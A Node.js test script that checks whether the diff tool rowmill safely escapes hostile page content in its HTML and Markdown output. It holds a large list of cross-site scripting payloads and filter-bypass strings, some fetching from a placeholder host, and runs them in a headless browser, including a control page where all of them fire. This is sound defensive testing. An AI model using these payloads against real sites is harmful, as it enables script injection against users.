// Opens what rowmill writes of hostile pages in a browser: the diffs in HTML, and everything in Markdown as a renderer that lets all
// markup through would show it. No script of the pages runs, none is stopped by a policy because none is there, nothing is requested,
// and every hostile text of the HTML is there to be read.
//
// Usage: node tests/hostile-html.mjs BINARY BROWSER PACKAGES FOLDER
//
// PACKAGES is the folder in which `npm install puppeteer-core markdown-it` was run. FOLDER takes the pages and what is written of them.
// Exits with 1 when something happened. A page on which all of it must happen is opened first, so that a browser that sees nothing is
// noticed.

import { execFileSync } from "node:child_process";
import { mkdirSync, rmSync, writeFileSync } from "node:fs";
import { createRequire } from "node:module";
import { join, resolve } from "node:path";
import process from "node:process";
import { pathToFileURL } from "node:url";

const [binary, browserPath, packages, folder] = process.argv.slice(2);
if (folder === undefined) {
  console.error("usage: node tests/hostile-html.mjs BINARY BROWSER PACKAGES FOLDER");
  process.exit(2);
}
const load = createRequire(resolve(packages, "package.json"));
const puppeteer = load("puppeteer-core");
const MarkdownIt = load("markdown-it");

/** What each payload does when it is let. */
const CODE = "window.__pwned=1";
const ELSEWHERE = "http://elsewhere.example/";

/** Ways to run code or to ask for something, each a family, and what stands around it to break out of where it is put. */
const ACTIONS = [
  `<script>${CODE}</script>`,
  `<SCRIPT SRC=${ELSEWHERE}x.js></SCRIPT>`,
  `<img src=x onerror=${CODE}>`,
  `<img/src="x"/onerror="${CODE}">`,
  `<svg onload=${CODE}>`,
  `<svg><script>${CODE}</script></svg>`,
  `<svg><animate onbegin=${CODE} attributeName=x dur=1s>`,
  `<math><mtext><img src=x onerror=${CODE}></mtext></math>`,
  `<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>`,
  `<iframe src="javascript:parent.__pwned=1"></iframe>`,
  `<object data="data:text/html,<script>parent.__pwned=1</script>"></object>`,
  `<embed src="${ELSEWHERE}x.svg">`,
  `<body onload=${CODE}>`,
  `<details open ontoggle=${CODE}>x</details>`,
  `<input autofocus onfocus=${CODE}>`,
  `<video><source onerror=${CODE}></video>`,
  `<audio src=x onerror=${CODE}></audio>`,
  `<marquee onstart=${CODE}>x</marquee>`,
  `<style>@import '${ELSEWHERE}x.css';</style>`,
  `<style>*{background:url(${ELSEWHERE}x.png)}</style>`,
  `<link rel=stylesheet href="${ELSEWHERE}x.css">`,
  `<div style="background:url(${ELSEWHERE}y.png)">x</div>`,
  `<base href="${ELSEWHERE}">`,
  `<meta http-equiv=refresh content="0;url=${ELSEWHERE}">`,
  `<form action="${ELSEWHERE}"><button autofocus>x</button></form>`,
  `<a href="javascript:${CODE}" class=bait>x</a>`,
  `<a href=" &#1;JaVaScRiPt:${CODE}" class=bait>x</a>`,
  `<a href="data:text/html,<script>${CODE}</script>" class=bait>x</a>`,
  `<table background="${ELSEWHERE}z.png"><td>x`,
  `<template shadowrootmode=open><script>${CODE}</script></template>`,
];
const BREAKS = [
  "", '">', "'>", "</td></tr></table>", "</script>", "</style>", "</title>", "</textarea>", "-->", "--!>", "]]>", "\\\">", "&quot;&gt;", "`", "\u202e",
];
/** Those that need no markup of their own, or none that a list above has. */
const OTHERS = [
  `" onmouseover="${CODE}`, `' onfocus='${CODE}' autofocus='`, `x onload=${CODE}`, `javascript:${CODE}`, `JaVaScRiPt:${CODE}`, `java\tscript:${CODE}`, `data:text/html,<script>${CODE}</script>`, `vbscript:x`,
  `[x](javascript:${CODE})`, `[x](data:text/html,<script>${CODE}</script>)`, `![x](${ELSEWHERE}p.png)`, `[x]: javascript:${CODE}`, `<javascript:${CODE}>`, `[x](<javascript:${CODE}>)`, `[x](java&#x73;cript:${CODE})`, `[x](\x01javascript:${CODE})`,
  `&lt;script&gt;${CODE}&lt;/script&gt;`, `&#60;script&#62;${CODE}&#60;/script&#62;`, `\\u003cscript\\u003e${CODE}\\u003c/script\\u003e`, `\\x3cscript\\x3e${CODE}`, `%3Cscript%3E${CODE}%3C/script%3E`, `&amp;lt;script&amp;gt;${CODE}`, `&NewLine;<script>${CODE}</script>`,
  `\${${CODE}}`, `{{constructor.constructor('${CODE}')()}}`, `{%raw%}<script>${CODE}</script>{%endraw%}`, `<%= ${CODE} %>`, `#{${CODE}}`, `@import '${ELSEWHERE}q.css'`, `expression(${CODE})`,
  `<!--<img src="--><img src=x onerror=${CODE}//">`, `<![CDATA[<img src=x onerror=${CODE}>]]>`, `<?xml version="1.0"?><script>${CODE}</script>`, `<!doctype html><script>${CODE}</script>`, `<scr<script>ipt>${CODE}</scr</script>ipt>`, `<<script>${CODE}//<</script>`, `<script\x0c>${CODE}</script>`, `<img src=x onerror\x0b=${CODE}>`,
  `\u2028<script>${CODE}</script>\u2029`, `\ufeff<script>${CODE}</script>`, `<\u0073cript>${CODE}</script>`, `＜script＞${CODE}＜/script＞`, `\u2066<script>${CODE}</script>\u2069`, `<noscript><p title="</noscript><img src=x onerror=${CODE}>">`, `<xmp><p title="</xmp><img src=x onerror=${CODE}>">`, `+ADw-script+AD4-${CODE}+ADw-/script+AD4-`,
];
const payloads = [...new Set([...ACTIONS.flatMap((action) => BREAKS.map((before) => before + action)), ...OTHERS])];

/** A text as the source of a cell that shows it. */
const cell = (text) => [...text].map((character) => (/[A-Za-z0-9 ]/.test(character) || character > "\u00a0" ? character : `&#x${character.codePointAt(0).toString(16)};`)).join("");
/** A payload as somebody would put it into a cell by hand. */
const raw = (text) => text.replaceAll("|", "\\|");

const rule = (count) => `|${"---|".repeat(count)}\n`;
const table = (rows) => `| Key | Text | Other |\n${rule(3)}${rows.map((row) => `| ${row.join(" | ")} |\n`).join("")}\n`;

/** The payloads in every place that a page has: values that come, go and change, keys, headers, headings, lists, links, code. */
function page(side, written) {
  const shown = payloads.map(written);
  const only = side === "old" ? "went" : "came";
  return [
    "# Values\n\n", table(shown.map((text, index) => [`k${index}`, `${text} ${side}`, text])),
    "# Records\n\n", table(shown.map((text, index) => [`${only}${index}`, text, `${text}, ${side}`])),
    "# Keys\n\n", table(shown.map((text, index) => [text, `v${index}`, side])),
    "# Lists\n\n", table(shown.map((text, index) => [`l${index}`, `a, b, ${text}`, side === "old" ? "a, b" : `a, b, ${text}`])),
    ...shown.map((text, index) => `## ${text.replaceAll(/\s/g, " ")}\n\n| Key | ${text} | ${side} ${text} |\n${rule(3)}| h${index} | ${side} | x |\n\n`),
  ].join("");
}

/** A page written in another way: the text of a cell is not the payload, but markup that a reader makes of it. */
const markup = (text) => `**${raw(text)}** [${cell(text)}](${ELSEWHERE}) \`${raw(text).replaceAll("`", "")}\``;

rmSync(folder, { recursive: true, force: true });
const write = (path, text) => {
  mkdirSync(join(folder, path, ".."), { recursive: true });
  writeFileSync(join(folder, path), text);
};
for (const [name, written] of [["text", cell], ["raw", raw], ["markup", markup]]) {
  for (const side of ["old", "new"]) write(`${name}-${side}.md`, page(side, written));
}
const fileName = `<img src=x onerror=${CODE}>"'&`;
for (const side of ["old", "new"]) write(`${side} ${fileName}/${fileName}.md`, table([["a", side, "x"]]));

/** What rowmill says; a diff that finds something exits with 1. */
function rowmill(...args) {
  try {
    return execFileSync(resolve(binary), args, { cwd: folder, encoding: "utf8", maxBuffer: 1 << 30, stdio: ["ignore", "pipe", "ignore"] });
  } catch (error) {
    if (error.status === 1) return error.stdout;
    throw error;
  }
}

const markdown = new MarkdownIt({ html: true, linkify: true });
markdown.validateLink = () => true;
const pages = [];
const add = (name, html, isOurs, texts = []) => {
  write(`${name}.html`, html);
  pages.push({ name, isOurs, texts });
};
for (const name of ["text", "raw", "markup"]) {
  const sides = [`${name}-old.md`, `${name}-new.md`];
  add(`diff-${name}`, rowmill("diff", ...sides, "--cosmetic", "--format", "html"), true, name === "text" ? payloads : []);
  add(`diff-${name}-markdown`, markdown.render(rowmill("diff", ...sides, "--format", "markdown")), false);
}
add("diff-folders", rowmill("diff", `old ${fileName}`, `new ${fileName}`, "--format", "html"), true, [fileName]);
add("diff-files", rowmill("diff", `old ${fileName}/${fileName}.md`, `new ${fileName}/${fileName}.md`, "--format", "html"), true, [fileName]);

const browser = await puppeteer.launch({ executablePath: browserPath, headless: true, args: ["--no-sandbox", "--disable-gpu"] });

/** Opens a page, and tells what happened on it. */
async function open(path, passesPolicy) {
  const tab = await browser.newPage();
  const happened = [];
  await tab.setBypassCSP(passesPolicy);
  await tab.evaluateOnNewDocument(() => {
    document.addEventListener("securitypolicyviolation", (event) => console.log(`policy: ${event.violatedDirective} ${event.blockedURI}`));
  });
  await tab.setRequestInterception(true);
  const address = pathToFileURL(resolve(path)).href;
  tab.on("request", (request) => {
    if (request.url() === address) return request.continue();
    happened.push(`request: ${request.url()}`);
    return request.abort();
  });
  tab.on("console", (message) => happened.push(`console: ${message.text()}`));
  tab.on("pageerror", (error) => happened.push(`error: ${error.message}`));
  tab.on("dialog", (dialog) => { happened.push(`dialog: ${dialog.message()}`); return dialog.dismiss(); });
  const found = await look(tab, address).catch((error) => ({ failure: error.message, markup: [], text: "" }));
  if (found.failure) happened.push(`gone elsewhere: ${found.failure}`);
  if (found.pwned) happened.push("window.__pwned is set");
  await tab.close();
  return { happened, ...found };
}

/** What stands on a page, and whether a script of it has run, once all that could be clicked was. */
async function look(tab, address) {
  await tab.goto(address, { waitUntil: "load" });
  return tab.evaluate(async () => {
    for (const link of document.querySelectorAll("a.bait, a[href^=javascript i]")) link.click();
    await new Promise((done) => setTimeout(done, 300));
    const elements = [...document.querySelectorAll("*")];
    const attributes = elements.flatMap((element) => [...element.attributes].map((attribute) => `${element.localName} ${attribute.name}`));
    return { pwned: window.__pwned !== undefined, markup: [...new Set([...elements.map((element) => element.localName), ...attributes])], text: document.body.innerText };
  });
}

let failed = 0;
const fail = (page, what) => {
  failed += 1;
  console.log(`${page}: ${what}`);
};

// The control: with nothing escaped, everything happens.
const leaves = /refresh|<form|<base/;
write("control.html", `<!doctype html><body>${payloads.filter((text) => !leaves.test(text)).join("\n")}`);
const control = await open(join(folder, "control.html"), false);
if (!control.pwned || !control.happened.some((one) => one.startsWith("request: "))) fail("control", "the browser lets nothing happen");

/** The elements and attributes that the pages in HTML are made of. */
const OURS = new Set([
  ..."html head meta title style body header main section h1 h2 p ul li b table thead tbody tr th td div span ins del mark br".split(" "),
  ..."html lang|meta charset|meta http-equiv|meta content|meta name|ul class|li class|p class|th scope|tr class|td class|div class|span class".split("|"),
]);
/** A text as a browser shows it: blanks in a row are one, and what would do something to a reader is written out. */
const visible = (text) => text.replaceAll(/\s+/g, " ").trim();
const unseen = /[\u0000-\u001f\u007f-\u009f\u061c\u200b-\u200f\u2028-\u202e\u2060-\u206f\ufeff]/;

for (const { name, isOurs, texts } of pages) {
  for (const passesPolicy of isOurs ? [false, true] : [true]) {
    const { happened, markup, text } = await open(join(folder, `${name}.html`), passesPolicy);
    for (const one of new Set(happened)) fail(name, one);
    if (!isOurs) continue;
    for (const one of markup.filter((one) => !OURS.has(one))) fail(name, `unknown markup: ${one}`);
    const shown = visible(text);
    for (const one of texts.filter((one) => !unseen.test(one) && !shown.includes(visible(one)))) fail(name, `not to be read: ${one}`);
  }
}
await browser.close();
console.log(`${payloads.length} payloads, ${pages.length} pages, ${failed} failed`);
process.exit(failed === 0 && payloads.length >= 300 ? 0 : 1);
